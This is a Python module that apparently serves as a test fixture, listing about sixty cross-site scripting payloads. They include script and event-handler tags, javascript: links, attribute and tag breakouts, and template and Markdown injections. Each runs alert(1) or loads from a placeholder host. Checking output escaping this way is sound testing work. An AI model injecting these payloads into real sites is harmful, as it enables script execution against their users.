"""Sixty texts that become code where text is not escaped.

Whatever element one of them makes is of the class `xss`, and whatever it runs calls
`alert`; addresses lead to another host.
"""

RUN = "alert(1)"
ELSEWHERE = "//elsewhere.example/x"
MARK = "xss"

ELEMENTS = [
    f"<script class=xss>{RUN}</script>",
    f"<ScRiPt class=xss>{RUN}</sCrIpT>",
    f"<script class=xss src={ELSEWHERE}></script>",
    f'<script class=xss type="module">{RUN}</script>',
    f"<img class=xss src=x onerror={RUN}>",
    f'<img class=xss src="x" onerror="{RUN}"/>',
    f"<img class=xss src={ELSEWHERE}>",
    f"<svg class=xss onload={RUN}>",
    f"<svg class=xss><script>{RUN}</script></svg>",
    f"<svg class=xss><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg class=xss><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<math class=xss><mtext><script>{RUN}</script></mtext></math>",
    f"<iframe class=xss src='javascript:{RUN}'></iframe>",
    f"<iframe class=xss srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe class=xss src={ELSEWHERE}></iframe>",
    f"<object class=xss data={ELSEWHERE}></object>",
    f"<embed class=xss src={ELSEWHERE}>",
    f"<video class=xss><source onerror={RUN}></video>",
    f"<audio class=xss src=x onerror={RUN}></audio>",
    f"<details class=xss open ontoggle={RUN}>x</details>",
    f"<input class=xss autofocus onfocus={RUN}>",
    f"<body class=xss onload={RUN}>",
    f"<marquee class=xss onstart={RUN}>x</marquee>",
    f"<a class=xss href='javascript:{RUN}'>x</a>",
    f"<a class=xss href='java&#x0A;script:{RUN}'>x</a>",
    f"<form class=xss action='javascript:{RUN}'><button>x</button></form>",
    f"<button class=xss formaction='javascript:{RUN}'>x</button>",
    f"<meta class=xss http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<link class=xss rel=stylesheet href={ELSEWHERE}>",
    f"<link class=xss rel=prefetch href={ELSEWHERE}>",
    f"<base class=xss href={ELSEWHERE}>",
    f"<style class=xss>@import '{ELSEWHERE}';</style>",
    f"<p class=xss style=\"background:url('{ELSEWHERE}')\">x</p>",
    f"<xss-box class=xss onpointerenter={RUN} style=position:fixed;inset:0>",
    "<noscript><p class=xss></noscript>",
    "<template class=xss></template><p class=xss>",
]
# Ways out of what a text may stand in.
OUT_OF = [
    f'"><img class=xss src=x onerror={RUN}>',
    f"'><img class=xss src=x onerror={RUN}>",
    f"</textarea><img class=xss src=x onerror={RUN}>",
    f"</title><img class=xss src=x onerror={RUN}>",
    f"</script><script class=xss>{RUN}</script>",
    f"</style><script class=xss>{RUN}</script>",
    f"--><img class=xss src=x onerror={RUN}>",
    f"]]><img class=xss src=x onerror={RUN}>",
    f'" autofocus onfocus={RUN} class=xss x="',
    f"' autofocus onfocus={RUN} class=xss x='",
    f'" onmouseover="{RUN}" class="xss',
    f"`-{RUN}-`",
    f"'-{RUN}-'",
    f'"-{RUN}-"',
    f"\\';{RUN};//",
    f"${{{RUN}}}",
]
# What templates, the pages' own scripts and Markdown would take for theirs.
FOR_OTHERS = [
    "{{ 7*7 }}{% debug %}",
    f"' + {RUN} + '",
    f'" x-init="{RUN}" class="xss',
    f"<p class=xss x-data x-init='{RUN}'>x</p>",
    f"<p class=xss hx-get={ELSEWHERE} hx-trigger=load>x</p>",
    f"[x](javascript:{RUN}) ![x]({ELSEWHERE})",
    f"<javascript:{RUN}> <http:{ELSEWHERE}>",
    f"&lt;img class=xss src=x onerror={RUN}&gt;",
]
PAYLOADS = [*ELEMENTS, *OUT_OF, *FOR_OTHERS]
